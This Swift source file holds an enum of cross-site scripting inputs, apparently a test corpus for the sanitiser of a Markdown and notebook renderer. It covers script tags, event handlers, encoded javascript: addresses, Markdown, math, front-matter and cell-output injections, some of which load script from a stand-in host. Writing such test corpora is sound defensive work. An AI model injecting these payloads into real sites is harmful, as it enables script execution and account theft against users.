// Known ways to get a script into a page: raw HTML, addresses, Markdown, formulas and attributes.

enum ScriptAttempts {
  static let all = elements + handlers + addresses.flatMap { address in
    [
      "[a](\(address))", "[a](<\(address)>)", "![a](\(address))", "<\(address)>", "[a]: \(address)\n\n[a]", "$\\href{\(address)}{x}$",
      "$\\url{\(address)}$",
    ]
  } + markdown + frontMatter + printed

  /// Those in which no raw HTML is meant to be markup: results of cells, options and addresses.
  static let withoutMarkup = printed + addresses.flatMap { ["[a](\($0))", "<\($0)>",
  "$\\href{\($0)}{x}$"] } + markdown.filter { $0.hasPrefix("```nabla") }

  /// Elements that run or load something by themselves.
  private static let elements = [
    "<script>alert(1)</script>", "<SCRIPT SRC=http://xss.example/x.js></SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<script>alert(1)//", "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>/* */alert(1)/* */</script>", "<script type=\"module\">import('x')</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<iframe src=http://xss.example <",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<object data=\"javascript:alert(1)\"></object>",
    "<object type=\"text/x-scriptlet\" data=\"http://xss.example/x.html\"></object>", "<applet code=\"X\"></applet>",
    "<base href=\"javascript:alert(1);//\">", "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<link rel=import href=\"data:text/html,x\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">", "<style>@import 'http://xss.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>", "<style>*{x:expression(alert(1))}</style>",
    "<form action=\"javascript:alert(1)\"><input type=submit>", "<button formaction=\"javascript:alert(1)\">x</button>",
    "<isindex type=image src=1>", "<frameset><frame src=\"javascript:alert(1)\"></frameset>", "<bgsound src=\"javascript:alert(1)\">",
    "<layer src=\"http://xss.example/x\"></layer>",
    "<xml id=x><x><c><![CDATA[<img src=\"javas]]><![CDATA[cript:alert(1)\">]]></c></x></xml>",
    "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=\"data:,alert(1)\"></script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,x#x\"></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<title></title><script>alert(1)</script>", "<textarea></textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>", "<area href=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\">", "<div style=\"background-image:url(javascript:alert(1))\">",
    "<div style=\"width:expression(alert(1))\">", "<img src=\"javascript:alert(1)\">", "<img src=`javascript:alert(1)`>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img dynsrc=\"javascript:alert(1)\">", "<img lowsrc=\"javascript:alert(1)\">",
    "<input type=\"image\" src=\"javascript:alert(1)\">", "<video><source src=\"javascript:alert(1)\"></video>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
  ]

  /// Handlers of events, with the tricks that filters of text fall for.
  private static let handlers = [
    "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror=\"&#97;lert(1)\">", "<IMG SRC=/ onerror=\"alert(1)\"></img>", "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<body onload=alert(1)>",
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>", "<div onmouseover=\"alert(1)\">x</div>", "<b onclick=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<a onmouseover=alert(1)>x</a>", "<p style=\"animation:x\" onanimationstart=\"alert(1)\">", "<x onpointerenter=alert(1)>x</x>",
    "<form><button onclick=alert(1)>x", "<iframe onload=alert(1)></iframe>", "<img src onerror=alert`1`>",
    "<a href=x onclick=alert(1) title=\"", "<style onload=alert(1)></style>", "<object onerror=alert(1)>",
  ]

  /// Addresses that run what they hold.
  private static let addresses = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
    "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)", "&#x20;javascript:alert(1)", "javascript&#x3a;alert(1)", "&#0;javascript:alert(1)", "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)", "\u{2028}javascript:alert(1)", "\u{A0}javascript:alert(1)", "javascript:%61lert(1)",
    "JAVASCRIPT&#58;alert(1)",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "blob:https://x/y", "filesystem:x", "livescript:x", "mocha:x",
    "jar:x!/y",
    "data:image/svg+xml;base64,PHN2Zz4=", "data:application/xhtml+xml,x", "about:blank", "file:///etc/passwd", "ws://x", "intent:x",
  ]

  /// Marks of Markdown that could become attributes or break out of them.
  private static let markdown = [
    "[a](x \"\" onmouseover=alert(1) \"\")", "[a](x '\"><script>alert(1)</script>')", "![\"onerror=alert(1)](x.png)",
    "![a](x.png \"\\\" onerror=\\\"alert(1)\")", "`<script>alert(1)</script>`", "```\"><script>alert(1)</script>\nx\n```",
    "# Heading {#a\" onclick=\"alert(1)}", "# Heading {#a onclick=alert(1)}", "# <img src=x onerror=alert(1)>",
    "> [!THEOREM] <script>alert(1)</script> {#thm-x}\n> x", "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^<script>]\n\n[^<script>]: x", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$<script>alert(1)</script>$", "$\\text{<script>alert(1)</script>}$", "$\\unknown{<img src=x onerror=alert(1)>}$",
    "$$\n\\tag{<script>alert(1)</script>}\n$$", "$\\color{red\" onclick=\"alert(1)}{x}$", "$\\class{x\" onclick=\"alert(1)}{x}$",
    "$\\htmlData{onclick=alert(1)}{x}$", "$\\includegraphics[alt=x]{javascript:alert(1)}$",
    "```nabla\n#| label: fig-x\" onload=\"alert(1)\nplot([1, 2])\n```",
    "```nabla\ntitle!(plot([1, 2]), \"<script>alert(1)</script>\")\n```",
    "```nabla\nplot([1, 2], label=\"</text><script>alert(1)</script>\")\n```", "```nabla\n\"<script>alert(1)</script>\"\n```",
    "```nabla\n#| fig-alt: '\"><script>alert(1)</script>'\nplot([1, 2])\n```", "```nabla\nerror(\"<script>alert(1)</script>\")\n```",
    "[a]: javascript:alert(1) \"x\"\n\n![a] [b][a] [a][]", "[a]: <x> '\"><script>alert(1)</script>'\n\n[a]", "![<script>](x.png)",
    "![a](x.png '\"><img src=x onerror=alert(1)>')", "[![a](javascript:alert(1))](javascript:alert(1))", "[*a*](javascript:alert(1))",
    "<javascript:alert(1)>", "<mailto:x\"onclick=alert(1)>", "www.example.org/\"onclick=alert(1)",
    "https://example.org/'><script>alert(1)</script>",
    "```nabla\n#| label: 'tbl-x\" onclick=\"alert(1)'\n[1 2]\n```",
    "```nabla\n#| fig-cap: '<img src=x onerror=alert(1)>'\n#| label: fig-x\nplot([1])\n```",
    "```nabla\n#| code-fold: true\n#| code-summary: '</summary><script>alert(1)</script>'\n1\n```", "~~~\" onclick=\"alert(1)\nx\n~~~",
    "$$\nx\n$$ {#eq-x\" onclick=\"alert(1)}", "| a |\n|---|\n| 1 |\n\n: <script>alert(1)</script> {#tbl-x}",
    "$\\htmlId{x\" onclick=\"y}{z}$", "$\\style{x:expression(alert(1))}{x}$", "$\\href{ java\tscript:alert(1)}{x}$",
    "$\\textcolor{\"><script>alert(1)</script>}{x}$",
    "$\\begin{array}{c\"onclick=alert(1)} x \\end{array}$", "$\\operatorname{</math><script>alert(1)</script>}$",
    "$\\mathrm{<img src=x onerror=alert(1)>}$",
    "$x$</math><script>alert(1)</script>", "$\\label{\" onclick=\"alert(1)}$", "$\\hspace{1em;x:url(javascript:alert(1))}$",
    "<`= \"script\"`>alert(1)</`= \"script\"`>", "\\\\<`= \"script\"`>alert(1)", "<script\n<!-- x -->\nsrc=x>", "<scr[^1]ipt>\n\n[^1]: x",
    "`` ` ``<script>alert(1)</script>`` ` ``", "<details><summary onclick=alert(1)>x</summary></details>", "[x]{onclick=alert(1)}",
    "`= \"<script>alert(1)</script>\"`", "@fig-<script>alert(1)</script>", "[@<script>alert(1)</script>]",
  ]

  /// The head of a file.
  private static let frontMatter = [
    "title: '<script>alert(1)</script>'", "title: '</title><script>alert(1)</script>'", "title: '<img src=x onerror=alert(1)>'",
    "title: '[a](javascript:alert(1))'", "title: '</h1></main><script>alert(1)</script>'", "subtitle: '<script>alert(1)</script>'",
    "author: '<script>alert(1)</script>'", "author: ['<b onclick=alert(1)>x</b>', '\"><script>alert(1)</script>']",
    "date: '<script>alert(1)</script>'",
    "description: '\"><script>alert(1)</script>'", "lang: 'en\" onload=\"alert(1)'", "lang: '\"><script>alert(1)</script>'",
    "keywords: ['<script>alert(1)</script>']", "macros: {'\\x': '\\href{javascript:alert(1)}{y}'}\n---\n$\\x$",
    "'<script>alert(1)</script>': 1",
    "params: {x: '<script>alert(1)</script>'}\n---\n`= x`",
  ].map { "---\n\($0)" + ($0.contains("\n---\n") ? "" : "\n---\n\nText.") }

  /// What cells print, show and fail with.
  private static let printed = ["<script>alert(1)</script>", "</pre><img src=x onerror=alert(1)>",
  "]]><svg onload=alert(1)>"].flatMap { text in
    [
      "println(\"\(text)\")", "\"\(text)\"", "[\"\(text)\", \"b\"]", "Dict(\"\(text)\" => 1)", "Symbol(\"\(text)\")", "error(\"\(text)\")",
      "# \(text)", "plot([1, 2], title=\"\(text)\", xlabel=\"\(text)\")", "bar([\"\(text)\"], [1])", "'<'",
      "throw(ArgumentError(\"`\(text)`\"))",
    ].map { "```nabla\n\($0)\n```" }
  }
}
